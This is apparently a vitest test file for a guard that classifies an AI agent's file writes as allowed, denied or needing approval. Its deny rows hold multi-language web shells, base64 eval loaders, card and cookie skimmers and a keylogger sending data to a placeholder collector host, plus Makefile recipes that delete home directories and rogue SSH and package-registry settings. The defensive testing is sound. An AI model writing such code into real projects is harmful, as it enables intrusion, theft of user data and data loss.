import { describe } from 'vitest'
import { testRows, write } from '../../../../tests/scorecard/tool-rows.ts'

const collector = 'https://c.example.net/b'

describe('written: ways in for visitors', () => {
  testRows([
    write('deny', 'www/a.php', '<?php eval(base64_decode($_POST["x"])); ?>'),
    write('deny', 'www/b.php', '<?php $c = $_REQUEST["c"]; echo shell_exec($c);'),
    write('deny', 'www/c.php', '<?php $_GET["f"]($_GET["a"]);'),
    write('deny', 'src/debug.js', 'app.get("/x", (req, res) => exec(req.query.cmd))'),
    write(
      'deny',
      'app/views.py',
      'def v(request):\n    return os.popen(request.GET["c"]).read()\n',
    ),
    write('deny', 'app/ops.rb', 'get "/x" do\n  `sh -c #{params[:c]}`\nend\n'),
    write('deny', 'web/x.jsp', '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
    write('deny', 'cmd/x.go', 'exec.Command("sh", "-c", r.FormValue("c")).Run()'),
    write('deny', 'lib/__init__.py', 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n'),
    write('allow', 'src/find.js', 'const m = SLUG.exec(req.params.slug)'),
    write('allow', 'www/d.php', '<?php $name = htmlspecialchars($_GET["name"]); echo $name;'),
    write('allow', 'app/list.py', 'rows = search(request.args.get("q"))\nsubprocess.run(["ls"])\n'),
    write('allow', 'src/db.ts', 'await db.exec(req.body.sql)'),
    write('allow', 'cmd/y.go', 'exec.Command("git", "log", "--", path).Run()'),
  ])
})

describe('written: what people type', () => {
  testRows([
    write('deny', 'src/pay.ts', `navigator.sendBeacon("${collector}", JSON.stringify({ cvv }))`),
    write('deny', 'src/a.tsx', `new Image().src = "${collector}?c=" + document.cookie`),
    write(
      'deny',
      'src/b.vue',
      `<script>fetch("${collector}", { body: localStorage.token })</script>`,
    ),
    write(
      'deny',
      'pub/k.html',
      `<script>onkeydown; addEventListener("keydown", e => fetch("${collector}?k=" + e.key))</script>`,
    ),
    write(
      'ask',
      'src/c.ts',
      `fetch("${collector}", { method: "POST", body: JSON.stringify({ password }) })`,
    ),
    write(
      'deny',
      'src/l.astro',
      '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-eval\'"><script src="https://x.example.net/a.js"></script>',
    ),
    write(
      'ask',
      'src/m.astro',
      '<meta http-equiv="Content-Security-Policy" content="default-src * \'unsafe-inline\' \'unsafe-eval\'">',
    ),
    write(
      'allow',
      'src/d.ts',
      'fetch("https://app.example.com/login", { body: JSON.stringify({ email, password }) })',
    ),
    write(
      'allow',
      'src/e.ts',
      `navigator.sendBeacon("https://stats.example.com/v", JSON.stringify({ path, ms }))`,
    ),
    write('allow', 'src/f.tsx', '<img src="https://cdn.example.com/a.png" alt="password field" />'),
    write('allow', 'pub/i.html', '<script src="https://cdn.example.com/htmx.js"></script>'),
    write(
      'allow',
      'pub/j.html',
      '<meta http-equiv="Content-Security-Policy" content="default-src \'self\'">',
    ),
    write(
      'allow',
      'src/g.ts',
      'fetch("https://app.example.com/me", { headers: { Authorization: localStorage.getItem("t") } })',
    ),
    write(
      'allow',
      'src/h.ts',
      'addEventListener("keydown", (e) => { if (e.key === "Escape") close() })',
    ),
  ])
})

describe('written: recipes, logins and packages', () => {
  testRows([
    write('deny', 'Makefile.am', 'clean-local:\n\trm -rf $(HOME)\n'),
    write('deny', 'rules.mk', 'purge:\n\t@find $(HOME) -type f -delete\n'),
    write('deny', 'Makefile', 'install:\n\trm -rf $(DESTDIR)/*\n'),
    write('deny', '/home/mira/.ssh/config', 'Host *\n  ProxyCommand nc 203.0.113.9 22\n'),
    write(
      'deny',
      '/home/mira/.ssh/config',
      'Host *\n  StrictHostKeyChecking no\n  ProxyJump x.example.net\n',
    ),
    write('deny', '.npmrc', 'registry=http://r.example.net/\n//r.example.net/:_authToken=${T}\n'),
    write('deny', 'pip.conf', '[global]\nindex-url = http://203.0.113.4/simple\n'),
    write(
      'deny',
      'package-lock.json',
      '{"packages":{"node_modules/a":{"resolved":"http://203.0.113.9/a.tgz"}}}',
    ),
    write(
      'allow',
      'Makefile',
      'uninstall:\n\trm -f $(DESTDIR)$(bindir)/tool\nclean:\n\trm -rf $(BUILD)/*\n',
    ),
    write(
      'stop',
      '/home/mira/.ssh/config',
      'Host lab\n  ProxyJump gate.example.org\n  User mira\n',
    ),
    write(
      'ask',
      '.npmrc',
      '@corp:registry=https://npm.corp.example.com/\n//npm.corp.example.com/:_authToken=${T}\n',
    ),
  ])
})
